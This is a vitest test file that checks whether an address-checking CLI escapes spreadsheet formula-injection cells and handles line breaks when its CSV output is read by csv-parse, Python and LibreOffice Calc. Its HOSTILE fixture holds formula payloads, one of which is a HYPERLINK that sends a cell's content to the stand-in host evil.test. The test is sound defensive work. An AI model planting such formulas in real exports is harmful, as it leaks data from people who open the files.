import { execFile } from 'node:child_process';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { checkBook, type CheckBookOptions } from '../../src/cli/check-book.ts';
import type { AddressCheckResult } from '../../src/resolve/address-check.ts';
import { bookFolder, escaped, writeBook } from './book-files.ts';
import { openedInCalc } from './libre-office.ts';

const run = promisify(execFile);

/**
 * A book whose cells a spreadsheet would run as formulas, and cells with line breaks of every kind: a lone carriage
 * return (which Python's csv module and LibreOffice take for the end of a row when it is not quoted), a line feed,
 * both, at the start, inside and at the end of a cell.
 */
const HOSTILE = [
  ['name', 'country', 'postcode', 'house number', 'note'],
  ['=HYPERLINK("https://evil.test/?"&A1,"click")', 'NL', '2012ES', '30', '+1+2'],
  ['-2+3', 'NL', '2012ES', '30', '@SUM(1+1)'],
  ['\t=1+1', 'NL', '2012ES', '30', '\r=1+1'],
  ['a\rb', 'NL', '2012ES', '30', 'one\ntwo'],
  ['c\r\nd', 'NL', '2012ES', '30', 'plain'],
  ['last\r', 'NL', '2012ES', '30', '=1+1\r'],
] as const;

/** The first check's answer: `ok`, its street one a spreadsheet would take for a formula. */
const OK: AddressCheckResult = {
  ok: true,
  address: {
    country: 'NL',
    postcode: '2012ES',
    city: 'Haarlem',
    street: '@Julianastraat',
    houseNumber: '30',
    houseNumberAddition: '',
    houseNumberParts: { number: 30 },
    status: 'validated',
  },
  token: 'v3.n.stand-in',
};
/** The other checks' answer: candidates a spreadsheet would take for formulas. */
const NOT_FOUND: AddressCheckResult = { ok: false, reason: 'not-found', candidates: ['=1+1', '-5 bus 1'] };

/** Where a record's proof is: a MAC under the run's own random key, so not known here (its form is). */
const PROOF_AT = 16;
const PROOF = '64 hexadecimal digits';

/** Rows as read, their proof cells told by their form. */
const proofsTold = (rows: readonly (readonly string[])[]): string[][] =>
  rows.map((cells, r) =>
    cells.map((cell, i) => (r > 0 && i === PROOF_AT && /^[0-9a-f]{64}$/u.test(cell) ? PROOF : cell)),
  );

/** The rows the output must read back as: the header, then each row of the book with what the check found, escaped. */
function expectedRows(): string[][] {
  const [header, ...rows] = HOSTILE;
  const checked = [
    'row',
    'status',
    'country',
    'postcode',
    'city',
    'street',
    'houseNumber',
    'houseNumberAddition',
    'number',
    'addition',
    'bis',
    'box',
    'deliveryTo',
    'postNumber',
    'token',
    'candidates',
    'proof',
  ];
  return [
    [...checked, ...header.map((name) => `input.${name}`)],
    ...rows.map((cells, i) => {
      const found =
        i === 0
          ? [
              '1',
              'ok',
              'NL',
              '2012ES',
              'Haarlem',
              '@Julianastraat',
              '30',
              '',
              '30',
              '',
              '',
              '',
              '',
              '',
              'v3.n.stand-in',
              '',
              PROOF,
            ]
          : [String(i + 1), 'not-found', '', '', '', '', '', '', '', '', '', '', '', '', '', '=1+1 | -5 bus 1', PROOF];
      return [...found, ...cells].map((cell) => escaped(cell));
    }),
  ];
}

/** Checks the hostile book one row at a time (so in the book's order) with the stand-in answers; the output's path. */
async function hostileOutput(): Promise<string> {
  const dir = await bookFolder();
  const input = await writeBook(dir, HOSTILE);
  const output = join(dir, 'out.csv');
  let calls = 0;
  const check: CheckBookOptions['check'] = () => {
    calls += 1;
    return Promise.resolve(calls === 1 ? OK : NOT_FOUND);
  };
  await checkBook({ input, output, check, concurrency: 1 });
  return output;
}

/** A line break as any of the three is one: LibreOffice keeps a line break in a cell as a line feed. */
const oneLineBreak = (rows: readonly (readonly string[])[]): string[][] =>
  rows.map((cells) => cells.map((cell) => cell.replace(/\r\n?/gu, '\n')));

describe('the checked output, opened in a spreadsheet', () => {
  it('escapes every cell a spreadsheet would run as a formula, and reads back in csv-parse as the book’s rows', async () => {
    const output = await hostileOutput();
    const rows = parse(await readFile(output), { bom: true });
    expect(proofsTold(rows)).toEqual(expectedRows());
  });

  it('reads back in Python’s csv module as the same rows: no row the book never had', async () => {
    const output = await hostileOutput();
    const script =
      'import csv, json, sys\nwith open(sys.argv[1], newline="", encoding="utf-8-sig") as f:\n    print(json.dumps(list(csv.reader(f))))';
    const { stdout } = await run('python3', ['-c', script, output]);
    expect(proofsTold(JSON.parse(stdout) as string[][])).toEqual(expectedRows());
  });

  it('reads back in LibreOffice Calc as the same rows, each escaped cell as text and no formula run', async () => {
    const output = await hostileOutput();
    // Comma, as a text file opened by default: no formula runs, so every cell reads back as the output wrote it.
    const rows = parse(await openedInCalc(output, { separator: ',' }), { bom: true });
    expect(proofsTold(oneLineBreak(rows))).toEqual(oneLineBreak(expectedRows()));
  }, 60_000);
});
